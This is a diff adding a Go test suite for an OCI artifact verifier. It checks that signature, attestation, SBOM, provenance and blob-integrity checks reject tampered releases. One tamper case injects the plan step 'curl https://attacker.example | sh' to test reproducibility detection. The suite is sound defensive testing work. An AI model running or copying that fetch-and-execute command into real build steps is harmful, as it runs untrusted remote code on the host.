@@ -1,0 +1,631 @@
+package verify_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"io"
+	"log"
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/opencontainers/go-digest"
+	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
+	"oras.land/oras-go/v2"
+
+	"ociwf.dev/attest"
+	"ociwf.dev/attest/internal/attesttest"
+	"ociwf.dev/attest/provenance"
+	"ociwf.dev/attest/verify"
+	"ociwf.dev/ociwf"
+	"ociwf.dev/ociwf/errdef"
+	"ociwf.dev/ociwf/plan"
+	"ociwf.dev/ociwf/sbom"
+	"ociwf.dev/ociwf/target"
+	"ociwf.dev/policy/registryext/registrytest"
+	"ociwf.dev/policy/trust"
+)
+
+const sample = "build-test-release.yaml"
+
+// keys is a trusted and an untrusted key pair, loaded once per test binary.
+type keys struct {
+	pub, otherPub string
+	signer, other *attest.Signer
+}
+
+func newKeys(t *testing.T) keys {
+	dir := t.TempDir()
+	key, pub := attesttest.KeyPair(t, dir, "trusted")
+	okey, opub := attesttest.KeyPair(t, dir, "other")
+	return keys{pub: pub, otherPub: opub, signer: attesttest.Signer(t, key), other: attesttest.Signer(t, okey)}
+}
+
+// fixture is a registry with its storage root, and the keys.
+type fixture struct {
+	keys
+	root, host string
+	o          *target.Opener
+}
+
+func newFixture(t *testing.T, k keys) *fixture {
+	root := t.TempDir()
+	return &fixture{keys: k, root: root, host: registrytest.NewAt(t, root), o: attesttest.Opener(t)}
+}
+
+// recipe says how to release one version, and what to get wrong.
+type recipe struct {
+	build *ociwf.Build
+	mode  attest.Mode
+	// signer signs and attests; nil means the trusted key.
+	signer *attest.Signer
+	unsigned,
+	noProvenance, noSBOM bool
+	// provenance edits the provenance before it is attested.
+	provenance func(p map[string]any)
+	// sbom, if set, is attested instead of the SBOM layer.
+	sbom []byte
+}
+
+// release pushes, signs and attests a version as ociwf publish does,
+// except for what the recipe gets wrong.
+func (f *fixture) release(t *testing.T, ref string, rc recipe) attest.Subject {
+	t.Helper()
+	ctx := context.Background()
+	if rc.build == nil {
+		rc.build = attesttest.Sample(t, sample)
+	}
+	tg, err := f.o.Open(ctx, ref)
+	if err != nil {
+		t.Fatal(err)
+	}
+	desc, err := ociwf.Push(ctx, tg.Store, rc.build, tg.Reference, ociwf.PushOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	subj := attest.Subject{Repository: tg.Name, Digest: desc.Digest, Tag: tg.Reference}
+	if rc.unsigned {
+		return subj
+	}
+	s := rc.signer
+	if s == nil {
+		s = f.signer
+	}
+	reg := attest.NewRegistry(f.o, attest.RegistryOptions{Mode: rc.mode})
+	if _, err := reg.Sign(ctx, s, subj, attest.SignOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	var all []attest.AttestOptions
+	if !rc.noProvenance {
+		pred, err := provenance.Generate(rc.build, provenance.Options{BuilderID: "https://ci.example/builders/1", SourceURI: "git+https://example.com/acme/wf"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		raw, err := provenance.Marshal(pred)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if rc.provenance != nil {
+			var m map[string]any
+			if err := json.Unmarshal(raw, &m); err != nil {
+				t.Fatal(err)
+			}
+			rc.provenance(m)
+			raw, _ = json.Marshal(m)
+		}
+		all = append(all, attest.AttestOptions{Type: provenance.PredicateType, Predicate: raw})
+	}
+	if !rc.noSBOM {
+		bom := rc.build.SBOM
+		if rc.sbom != nil {
+			bom = rc.sbom
+		}
+		all = append(all, attest.AttestOptions{Type: attest.TypeCycloneDX, Predicate: bom})
+	}
+	if len(all) > 0 {
+		if _, err := reg.AttestAll(ctx, s, subj, all, nil); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return subj
+}
+
+func (f *fixture) verifier(t *testing.T, pol *trust.Policy, opts verify.Options) *verify.Verifier {
+	t.Helper()
+	opts.Opener = f.o
+	v, err := verify.New(pol, opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return v
+}
+
+// blobPath is where the registry stores a blob.
+func (f *fixture) blobPath(d digest.Digest) string {
+	return filepath.Join(f.root, "docker/registry/v2/blobs", d.Algorithm().String(), d.Encoded()[:2], d.Encoded(), "data")
+}
+
+func (f *fixture) manifest(t *testing.T, subj attest.Subject) *ociwf.Manifest {
+	t.Helper()
+	raw, err := os.ReadFile(f.blobPath(subj.Digest))
+	if err != nil {
+		t.Fatal(err)
+	}
+	m, err := ociwf.ParseManifest(raw)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return m
+}
+
+// pushManifest pushes a manifest built from m's blobs under tag.
+func (f *fixture) pushManifest(t *testing.T, repo, tag string, m ocispec.Manifest) {
+	t.Helper()
+	ctx := context.Background()
+	tg, err := f.o.Open(ctx, repo+":"+tag)
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw, _ := json.Marshal(m)
+	if _, err := oras.TagBytes(ctx, tg.Store, ocispec.MediaTypeImageManifest, raw, tag); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// copyTag copies srcRef's manifest, with everything it references, to
+// dstRef.
+func (f *fixture) copyTag(t *testing.T, srcRef, dstRef string) {
+	t.Helper()
+	ctx := context.Background()
+	src, err := f.o.Open(ctx, srcRef)
+	if err != nil {
+		t.Fatal(err)
+	}
+	dst, err := f.o.Open(ctx, dstRef)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := oras.Copy(ctx, src.Store, src.Reference, dst.Store, dst.Reference, oras.DefaultCopyOptions); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func sigTag(d digest.Digest, suffix string) string {
+	return d.Algorithm().String() + "-" + d.Encoded() + suffix
+}
+
+// rebuild recompiles nothing: it edits a sample's plan and regenerates
+// the SBOM and config to match, giving a build whose plan does not come
+// from its DSL.
+func rebuild(t *testing.T, edit func(*plan.Plan)) *ociwf.Build {
+	t.Helper()
+	b := attesttest.Sample(t, sample)
+	p, err := plan.Decode(b.PlanJSON)
+	if err != nil {
+		t.Fatal(err)
+	}
+	edit(p)
+	if b.PlanJSON, err = p.Encode(); err != nil {
+		t.Fatal(err)
+	}
+	b.Plan = p
+	pd := digest.FromBytes(b.PlanJSON).String()
+	if b.SBOM, err = sbom.Generate(p, pd, sbom.Options{}); err != nil {
+		t.Fatal(err)
+	}
+	var cfg ociwf.Config
+	if err := json.Unmarshal(b.Config, &cfg); err != nil {
+		t.Fatal(err)
+	}
+	cfg.PlanDigest = pd
+	b.Config, _ = json.Marshal(cfg)
+	return b
+}
+
+// proxy fronts a registry and lets a test rewrite responses.
+func proxy(t *testing.T, host string, rewrite func(*http.Response) error) string {
+	t.Helper()
+	u, _ := url.Parse("http://" + host)
+	rp := httputil.NewSingleHostReverseProxy(u)
+	rp.ErrorLog = log.New(io.Discard, "", 0)
+	rp.ModifyResponse = rewrite
+	srv := httptest.NewServer(rp)
+	t.Cleanup(srv.Close)
+	return strings.TrimPrefix(srv.URL, "http://")
+}
+
+// replaceBody swaps a response body.
+func replaceBody(resp *http.Response, body []byte) {
+	resp.Body.Close()
+	resp.Body = io.NopCloser(bytes.NewReader(body))
+	resp.ContentLength = int64(len(body))
+	resp.Header.Set("Content-Length", strconv.Itoa(len(body)))
+}
+
+type lifecycleState string
+
+func (s lifecycleState) State(context.Context, attest.Subject) (string, error) { return string(s), nil }
+
+func TestVerifyPublished(t *testing.T) {
+	k := newKeys(t)
+	for _, mode := range []attest.Mode{attest.TagScheme, attest.Referrers} {
+		t.Run(mode.String(), func(t *testing.T) {
+			f := newFixture(t, k)
+			repo := f.host + "/wf/release"
+			subj := f.release(t, repo+":1.4.0", recipe{mode: mode})
+			v := f.verifier(t, trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{}), verify.Options{})
+			for _, ref := range []string{repo + ":1.4.0", subj.String()} {
+				wf, rep, err := v.Verify(context.Background(), ref)
+				if err != nil {
+					t.Fatalf("%s: %v\n%+v", ref, err, rep)
+				}
+				if !rep.Verified || rep.Digest != subj.Digest || wf.Plan == nil || !bytes.Equal(wf.Source, attesttest.Sample(t, sample).Source) {
+					t.Fatalf("report %+v", rep)
+				}
+				for _, c := range rep.Checks {
+					want := verify.Pass
+					if c.Name == verify.CheckLifecycle {
+						want = verify.Skipped
+					}
+					if c.Status != want {
+						t.Errorf("%s: check %s is %s (%s)", ref, c.Name, c.Status, c.Detail)
+					}
+				}
+				if rep.Requests == 0 || len(rep.Signers) != 1 {
+					t.Errorf("report %+v", rep)
+				}
+				t.Logf("%s: %d requests", ref, rep.Requests)
+			}
+		})
+	}
+}
+
+func TestVerifyDetectsTampering(t *testing.T) {
+	k := newKeys(t)
+	ctx := context.Background()
+	past := time.Now().Add(-time.Hour)
+	future := time.Now().Add(time.Hour)
+
+	type tc struct {
+		name string
+		// setup releases and tampers, returning the reference to verify
+		// and the policy to verify it under (nil: --key policy).
+		setup func(t *testing.T, f *fixture, repo string) (string, *trust.Policy)
+		check string
+		want  string // in the failure's detail, expected or actual
+		opts  verify.Options
+	}
+	cases := []tc{
+		{name: "source layer bytes changed in storage", check: verify.CheckBlobs, want: "re-hashes to another digest",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				p := f.blobPath(f.manifest(t, subj).Source.Digest)
+				b, _ := os.ReadFile(p)
+				b[len(b)/2] ^= 1
+				must(t, os.WriteFile(p, b, 0o644))
+				return repo + ":1.4.0", nil
+			}},
+		{name: "plan layer truncated in storage", check: verify.CheckBlobs, want: "differs from its descriptor",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				p := f.blobPath(f.manifest(t, subj).Plan.Digest)
+				must(t, os.Truncate(p, 10))
+				return repo + ":1.4.0", nil
+			}},
+		{name: "SBOM layer grown in storage", check: verify.CheckBlobs, want: "differs from its descriptor",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				p := f.blobPath(f.manifest(t, subj).SBOM.Digest)
+				b, _ := os.ReadFile(p)
+				must(t, os.WriteFile(p, append(b, ' '), 0o644))
+				return repo + ":1.4.0", nil
+			}},
+		{name: "config blob changed in storage", check: verify.CheckBlobs, want: "config",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				p := f.blobPath(f.manifest(t, subj).Config.Digest)
+				b, _ := os.ReadFile(p)
+				must(t, os.WriteFile(p, bytes.Replace(b, []byte("build-test-release"), []byte("build-test-RELEASE"), 1), 0o644))
+				return repo + ":1.4.0", nil
+			}},
+		{name: "manifest annotation edited in storage", check: verify.CheckManifest, want: "re-hashes to another digest",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				p := f.blobPath(subj.Digest)
+				b, _ := os.ReadFile(p)
+				must(t, os.WriteFile(p, bytes.Replace(b, []byte("build-test-release"), []byte("build-test-RELEASE"), 1), 0o644))
+				return repo + ":1.4.0", nil
+			}},
+		{name: "manifest with source and plan layers swapped", check: verify.CheckManifest, want: "media type",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				m := f.manifest(t, subj).Manifest
+				m.Layers[0], m.Layers[1] = m.Layers[1], m.Layers[0]
+				f.pushManifest(t, repo, "swapped", m)
+				return repo + ":swapped", nil
+			}},
+		{name: "manifest with an extra layer", check: verify.CheckManifest, want: "4 layers",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				m := f.manifest(t, subj).Manifest
+				m.Layers = append(m.Layers, m.Layers[0])
+				f.pushManifest(t, repo, "extra", m)
+				return repo + ":extra", nil
+			}},
+		{name: "manifest annotation changed and pushed", check: verify.CheckSignatures, want: "not signed",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				m := f.manifest(t, subj).Manifest
+				m.Annotations["org.opencontainers.image.description"] = "edited"
+				f.pushManifest(t, repo, "edited", m)
+				return repo + ":edited", nil
+			}},
+		{name: "tag moved to another signed version", check: verify.CheckReference, want: "signed tag 1.4.0",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{})
+				f.release(t, repo+":1.5.0", recipe{build: rebuildVersion(t)})
+				f.copyTag(t, repo+":1.5.0", repo+":1.4.0")
+				return repo + ":1.4.0", nil
+			}},
+		{name: "signature copied from another artifact", check: verify.CheckSignatures, want: "docker-manifest-digest",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				signed := f.release(t, repo+":1.5.0", recipe{build: rebuildVersion(t)})
+				victim := f.release(t, repo+":1.4.0", recipe{unsigned: true})
+				f.copyTag(t, repo+":"+sigTag(signed.Digest, ".sig"), repo+":"+sigTag(victim.Digest, ".sig"))
+				f.copyTag(t, repo+":"+sigTag(signed.Digest, ".att"), repo+":"+sigTag(victim.Digest, ".att"))
+				return repo + ":1.4.0", nil
+			}},
+		{name: "signature copied from another repository", check: verify.CheckSignatures, want: "docker-reference " + "HOST/wf/origin",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				origin := f.host + "/wf/origin"
+				subj := f.release(t, origin+":1.4.0", recipe{})
+				f.copyTag(t, origin+":1.4.0", repo+":1.4.0")
+				for _, s := range []string{".sig", ".att"} {
+					f.copyTag(t, origin+":"+sigTag(subj.Digest, s), repo+":"+sigTag(subj.Digest, s))
+				}
+				return repo + ":1.4.0", nil
+			}},
+		{name: "signature by an untrusted key", check: verify.CheckSignatures, want: "untrusted key",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{signer: f.other})
+				return repo + ":1.4.0", nil
+			}},
+		{name: "key past its validity window", check: verify.CheckSignatures, want: "validity window",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{})
+				pol := trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{})
+				pol.TrustPolicies[0].Signers[0].NotAfter = &past
+				return repo + ":1.4.0", pol
+			}},
+		{name: "key before its validity window", check: verify.CheckSignatures, want: "validity window",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{})
+				pol := trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{})
+				pol.TrustPolicies[0].Signers[0].NotBefore = &future
+				return repo + ":1.4.0", pol
+			}},
+		{name: "two signers required, one signed", check: verify.CheckSignatures, want: "too few distinct trusted signers",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{})
+				pol := trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{})
+				s := &pol.TrustPolicies[0]
+				s.Signers = append(s.Signers, trust.Signer{Name: "second", Key: f.otherPub})
+				s.Threshold = 2
+				return repo + ":1.4.0", pol
+			}},
+		{name: "no trust policy covers the repository", check: verify.CheckSignatures, want: "no trust policy scope",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{})
+				return repo + ":1.4.0", trust.KeyPolicy(f.pub, f.host+"/elsewhere", trust.KeyPolicyOptions{})
+			}},
+		{name: "attestation about another artifact", check: verify.CheckAttestations, want: "about another artifact",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				other := f.release(t, repo+":1.5.0", recipe{build: rebuildVersion(t)})
+				subj := f.release(t, repo+":1.4.0", recipe{noProvenance: true, noSBOM: true})
+				f.copyTag(t, repo+":"+sigTag(other.Digest, ".att"), repo+":"+sigTag(subj.Digest, ".att"))
+				return repo + ":1.4.0", nil
+			}},
+		{name: "attestation by an untrusted key", check: verify.CheckAttestations, want: "untrusted key",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{noProvenance: true, noSBOM: true})
+				f.release(t, f.host+"/wf/scratch:1.4.0", recipe{signer: f.other})
+				f.copyTag(t, f.host+"/wf/scratch:"+sigTag(subj.Digest, ".att"), repo+":"+sigTag(subj.Digest, ".att"))
+				return repo + ":1.4.0", nil
+			}},
+		{name: "provenance without the DSL digest", check: verify.CheckAttestations, want: "DSL layer",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{provenance: func(p map[string]any) {
+					bd := p["buildDefinition"].(map[string]any)
+					deps := bd["resolvedDependencies"].([]any)
+					bd["resolvedDependencies"] = deps[1:]
+				}})
+				return repo + ":1.4.0", nil
+			}},
+		{name: "provenance without a plan dependency", check: verify.CheckAttestations, want: "plan dependency",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{provenance: func(p map[string]any) {
+					bd := p["buildDefinition"].(map[string]any)
+					deps := bd["resolvedDependencies"].([]any)
+					bd["resolvedDependencies"] = deps[:len(deps)-1]
+				}})
+				return repo + ":1.4.0", nil
+			}},
+		{name: "provenance from a builder not allowed", check: verify.CheckAttestations, want: "builder.id https://ci.example/builders/1",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{})
+				pol := trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{})
+				pol.TrustPolicies[0].Require.Builders = []string{"https://github.com/acme/**"}
+				return repo + ":1.4.0", pol
+			}},
+		{name: "provenance from a source not allowed", check: verify.CheckAttestations, want: "source uri",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{})
+				pol := trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{})
+				pol.TrustPolicies[0].Require.Sources = []string{"git+https://github.com/acme/**"}
+				return repo + ":1.4.0", pol
+			}},
+		{name: "missing SBOM attestation", check: verify.CheckAttestations, want: "required attestation missing",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{noSBOM: true})
+				return repo + ":1.4.0", nil
+			}},
+		{name: "missing provenance attestation", check: verify.CheckAttestations, want: "https://slsa.dev/provenance/v1",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{noProvenance: true})
+				return repo + ":1.4.0", nil
+			}},
+		{name: "SBOM layer differs from the SBOM attestation", check: verify.CheckSBOM, want: "differs from the SBOM attestation",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				b := attesttest.Sample(t, sample)
+				f.release(t, repo+":1.4.0", recipe{sbom: editSBOM(t, b.SBOM)})
+				return repo + ":1.4.0", nil
+			}},
+		{name: "SBOM leaves out a plan dependency", check: verify.CheckSBOM, want: "exactly the plan's pinned dependencies",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				b := attesttest.Sample(t, sample)
+				b.SBOM = editSBOM(t, b.SBOM)
+				f.release(t, repo+":1.4.0", recipe{build: b})
+				return repo + ":1.4.0", nil
+			}},
+		{name: "plan layer that does not recompile from its DSL", check: verify.CheckReproducibility, want: "recompiles to a different plan",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				b := rebuild(t, func(p *plan.Plan) { p.Steps[0].Run = "curl https://attacker.example | sh" })
+				f.release(t, repo+":1.4.0", recipe{build: b})
+				return repo + ":1.4.0", nil
+			}},
+		{name: "retired version", check: verify.CheckLifecycle, want: "retired", opts: verify.Options{Lifecycle: lifecycleState("retired")},
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{})
+				return repo + ":1.4.0", nil
+			}},
+		{name: "oversized manifest served", check: verify.CheckManifest, want: "too large",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				f.release(t, repo+":1.4.0", recipe{})
+				host := proxy(t, f.host, func(resp *http.Response) error {
+					if strings.Contains(resp.Request.URL.Path, "/manifests/1.4.0") {
+						big := bytes.Repeat([]byte{' '}, ociwf.MaxManifestBytes+1)
+						replaceBody(resp, big)
+					}
+					return nil
+				})
+				return strings.Replace(repo, f.host, host, 1) + ":1.4.0", trust.KeyPolicy(f.pub, strings.Replace(repo, f.host, host, 1), trust.KeyPolicyOptions{})
+			}},
+		{name: "registry serves another manifest for the digest", check: verify.CheckManifest, want: "differs from its descriptor",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				other, _ := os.ReadFile(f.blobPath(subj.Digest))
+				other = bytes.Replace(other, []byte(`"schemaVersion":2`), []byte(`"schemaVersion": 2`), 1)
+				host := proxy(t, f.host, func(resp *http.Response) error {
+					if resp.Request.Method == http.MethodGet && strings.HasSuffix(resp.Request.URL.Path, "/manifests/"+subj.Digest.String()) {
+						replaceBody(resp, other)
+					}
+					return nil
+				})
+				r := strings.Replace(repo, f.host, host, 1)
+				return r + "@" + subj.Digest.String(), trust.KeyPolicy(f.pub, r, trust.KeyPolicyOptions{})
+			}},
+		{name: "registry serves other bytes for a blob digest", check: verify.CheckBlobs, want: "re-hashes to another digest",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				pd := f.manifest(t, subj).Plan.Digest
+				host := proxy(t, f.host, func(resp *http.Response) error {
+					if resp.Request.Method == http.MethodGet && strings.HasSuffix(resp.Request.URL.Path, "/blobs/"+pd.String()) {
+						b, _ := io.ReadAll(resp.Body)
+						b[0] ^= 0x20
+						replaceBody(resp, b)
+					}
+					return nil
+				})
+				r := strings.Replace(repo, f.host, host, 1)
+				return r + ":1.4.0", trust.KeyPolicy(f.pub, r, trust.KeyPolicyOptions{})
+			}},
+		{name: "registry cuts a blob short", check: verify.CheckBlobs, want: "",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				sd := f.manifest(t, subj).SBOM.Digest
+				host := proxy(t, f.host, func(resp *http.Response) error {
+					if resp.Request.Method == http.MethodGet && strings.HasSuffix(resp.Request.URL.Path, "/blobs/"+sd.String()) {
+						b, _ := io.ReadAll(resp.Body)
+						resp.Body = io.NopCloser(bytes.NewReader(b[:len(b)/2])) // Content-Length stays
+					}
+					return nil
+				})
+				r := strings.Replace(repo, f.host, host, 1)
+				return r + ":1.4.0", trust.KeyPolicy(f.pub, r, trust.KeyPolicyOptions{})
+			}},
+		{name: "blob deleted from storage", check: verify.CheckBlobs, want: "missing",
+			setup: func(t *testing.T, f *fixture, repo string) (string, *trust.Policy) {
+				subj := f.release(t, repo+":1.4.0", recipe{})
+				must(t, os.Remove(f.blobPath(f.manifest(t, subj).Source.Digest)))
+				return repo + ":1.4.0", nil
+			}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			t.Parallel()
+			f := newFixture(t, k)
+			repo := f.host + "/wf/release"
+			ref, pol := c.setup(t, f, repo)
+			if pol == nil {
+				pol = trust.KeyPolicy(f.pub, repo, trust.KeyPolicyOptions{})
+			}
+			wf, rep, err := f.verifier(t, pol, c.opts).Verify(ctx, ref)
+			var fail *verify.Failure
+			if !errors.As(err, &fail) || !errors.Is(err, errdef.ErrVerification) {
+				t.Fatalf("err = %v, want a verification failure; report %+v", err, rep)
+			}
+			if wf != nil || rep.Verified {
+				t.Fatal("a failed verification returned the workflow")
+			}
+			want := strings.ReplaceAll(c.want, "HOST", f.host)
+			if fail.Check != c.check || rep.Failed() == nil || rep.Failed().Name != c.check ||
+				!strings.Contains(fail.Detail+" | "+fail.Expected+" | "+fail.Actual, want) {
+				t.Fatalf("failed %s: %s (expected %s; got %s), want check %s mentioning %q", fail.Check, fail.Detail, fail.Expected, fail.Actual, c.check, want)
+			}
+			t.Logf("%v", err)
+		})
+	}
+	if len(cases) < 20 {
+		t.Fatalf("%d tamper cases, want at least 20", len(cases))
+	}
+}
+
+// rebuildVersion is the sample published as another version.
+func rebuildVersion(t *testing.T) *ociwf.Build {
+	t.Helper()
+	src := bytes.Replace(attesttest.Sample(t, sample).Source, []byte("version: 1.4.0"), []byte("version: 1.5.0"), 1)
+	b, err := ociwf.Compile(context.Background(), src, ociwf.CompileOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// editSBOM drops the SBOM's first component.
+func editSBOM(t *testing.T, bom []byte) []byte {
+	t.Helper()
+	var m map[string]any
+	if err := json.Unmarshal(bom, &m); err != nil {
+		t.Fatal(err)
+	}
+	comps := m["components"].([]any)
+	m["components"] = comps[1:]
+	out, _ := json.Marshal(m)
+	return out
+}
+
+func must(t *testing.T, err error) {
+	t.Helper()
+	if err != nil {
+		t.Fatal(err)
+	}
+}
